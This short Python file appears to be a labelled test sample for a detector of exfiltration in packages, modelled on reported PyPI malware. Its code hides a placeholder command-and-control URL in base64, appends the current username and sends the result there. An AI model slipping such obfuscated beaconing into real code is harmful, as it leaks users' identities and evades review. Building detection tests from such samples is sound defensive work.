# expect: data-out
# source: PyPI malware reports (Phylum, Checkmarx)
# technique: base64-hidden base URL with getpass.getuser() appended
import base64
import getpass
import urllib.request

base = base64.b64decode("aHR0cHM6Ly9jMi5leGFtcGxlLm5ldC9jaGVja2luP3U9").decode()
urllib.request.urlopen(base + getpass.getuser())
